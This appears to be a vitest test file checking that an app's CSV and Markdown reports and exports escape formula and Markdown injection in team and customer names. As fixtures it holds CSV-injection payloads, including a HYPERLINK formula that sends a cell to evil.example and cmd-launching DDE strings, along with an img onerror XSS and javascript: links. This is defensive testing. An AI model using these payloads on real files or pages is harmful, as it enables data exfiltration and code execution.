import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import MarkdownIt from "markdown-it";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exportCompany } from "../../src/import/export.js";
import { runImport } from "../../src/import/importer.js";
import { fileSource } from "../../src/import/source.js";
import { fromSpreadsheetSafe, markdownText, spreadsheetSafe } from "../../src/text/escape.js";
import { createCompany, createTestApp, dataOf, type TestApp, type TestCompany } from "../helpers/app.js";
import { TEST_DB } from "../helpers/database.js";

// Names that attack whoever opens a report or an export: spreadsheet formulas
// (OWASP CSV injection) and Markdown that breaks tables, embeds HTML or links
// to javascript:. They must come out as text, and an export must import back
// to the same names.
const FORMULAS = [
  `=HYPERLINK("http://evil.example/?d="&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `＝1+1`,
];
const MARKDOWN = `North | <img src=x onerror=alert(1)> [click](javascript:alert(1)) ![x](http://evil.example/p.png) \`code`;
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

describe(`formula and Markdown injection in reports and exports (${TEST_DB})`, () => {
  let t: TestApp;
  let co: TestCompany;
  let dir: string;

  beforeAll(async () => {
    t = await createTestApp();
    dir = await mkdtemp(path.join(tmpdir(), "ys-inject-"));
    co = await createCompany(t.db, "inject");
    const p = t.db.prisma;
    for (const [i, name] of [...FORMULAS, MARKDOWN].entries()) {
      const team = await p.team.create({ data: { companyId: co.id, name } });
      const customer = await p.customer.create({ data: { companyId: co.id, name, ownerTeamId: team.id, externalId: `c${i}` } });
      await p.order.create({
        data: { companyId: co.id, customerId: customer.id, teamId: team.id, amount: String(100 + i * 10), product: "p", category: "c", channel: "web", at: new Date("2026-03-05T10:00:00Z") },
      });
    }
    const plugin = {
      key: "evil_orders", name: "Orders [x](javascript:alert(1)) <b>|</b>", unit: "count", subjects: ["company", "team", "member", "customer"],
      formula: "n", measures: { n: { source: "orders", aggregate: "count" } },
    };
    dataOf(await t.gql(`mutation($d: JSON!) { registerMetricPlugin(document: $d) { key } }`, { d: plugin }, co.keys.admin));
    const fw = {
      key: "team_fw", name: "Team <b>review</b> | x", level: "team",
      items: [{ kpi: "revenue", weight: 1, score: { method: "target", target: 200, worst: 0 } }, { kpi: "evil_orders", weight: 1, score: { method: "target", target: 5, worst: 0 } }],
    };
    dataOf(await t.gql(`mutation($d: JSON!) { createFramework(document: $d, effectiveFrom: "2000-01-01T00:00:00Z") { key } }`, { d: fw }, co.keys.admin));
  }, 120_000);
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
    await t.close();
  });

  const report = async (format: "CSV" | "MARKDOWN") =>
    dataOf(
      await t.gql<{ company: { report: string } }>(
        `query($f: ReportFormat!) { company { report(framework: "team_fw", period: { grain: MONTH, date: "2026-03-01" }, format: $f) } }`,
        { f: format },
        co.keys.viewer,
      ),
    ).company.report;

  it("the CSV report: no cell a spreadsheet would run, the names still readable after the mark", async () => {
    const rows = parse(await report("CSV"), { relax_column_count: true }) as string[][];
    const cells = rows.flat();
    for (const cell of cells) if (!PLAIN_NUMBER.test(cell)) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    const subjects = rows.slice(1).map((r) => r[1]!);
    for (const name of FORMULAS) expect(subjects).toContain(`'${name}`);
    // Numbers stay numbers (a negative change is not a formula).
    expect(cells.some((c) => /^-?\d+(\.\d+)?$/.test(c))).toBe(true);
  });

  it("the Markdown report: one cell per column, no HTML, no link, no image, whatever the names", async () => {
    const markdown = await report("MARKDOWN");
    const html = new MarkdownIt({ html: true, linkify: true }).render(markdown);
    // A plain http address may be linkified as text; nothing else becomes markup.
    expect(html).not.toMatch(/<img|<a href="(?!https?:)|<b>|<\/b>|<code>/i);
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
    // Every table row has the header's number of cells: the | in a name did not split it.
    for (const table of html.split("<table>").slice(1)) {
      const head = (table.split("</thead>")[0]!.match(/<th>/g) ?? []).length;
      for (const row of table.split("<tbody>")[1]?.split("</tr>").filter((r) => r.includes("<td")) ?? []) {
        expect((row.match(/<td>/g) ?? []).length).toBe(head);
      }
    }
  });

  it("npm run export: formula-like text marked, numbers untouched; the files import back to the same names", async () => {
    const out = path.join(dir, "export");
    await exportCompany(t.db, co.id, out, { tables: ["customers", "orders"] });
    const customers = parse(await readFile(path.join(out, "customers.csv"), "utf8"), { columns: true }) as Record<string, string>[];
    for (const row of customers) for (const cell of Object.values(row)) if (!PLAIN_NUMBER.test(cell)) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    expect(customers.map((c) => c.name)).toEqual(expect.arrayContaining(FORMULAS.map((n) => `'${n}`)));
    const copy = await createCompany(t.db, "inject-copy");
    const imported = await runImport(t.db, { companyId: copy.id, kind: "customers", source: fileSource(path.join(out, "customers.csv")) });
    expect(imported.job.status).toBe("done");
    const names = (await t.db.prisma.customer.findMany({ where: { companyId: copy.id }, select: { name: true } })).map((c) => c.name);
    // What the importer's cleaning keeps of each name (it trims edge tabs and CRs), apostrophe gone.
    for (const name of FORMULAS.filter((n) => !/^[\t\r]/.test(n))) expect(names).toContain(name);
  });

  it("the escaping itself: marks exactly what a spreadsheet would run, and Markdown's dangerous punctuation", () => {
    expect(spreadsheetSafe("=1+1")).toBe("'=1+1");
    expect(spreadsheetSafe("-12.5")).toBe("-12.5");
    expect(spreadsheetSafe("+86 138 0013 8000")).toBe("'+86 138 0013 8000");
    expect(spreadsheetSafe("Zhang Wei")).toBe("Zhang Wei");
    expect(fromSpreadsheetSafe(spreadsheetSafe("@SUM(A1)"))).toBe("@SUM(A1)");
    expect(fromSpreadsheetSafe("'quoted")).toBe("'quoted");
    expect(markdownText("a|b\n<i>[x](y)")).toBe("a\\|b \\<i\\>\\[x\\](y)");
  });
});
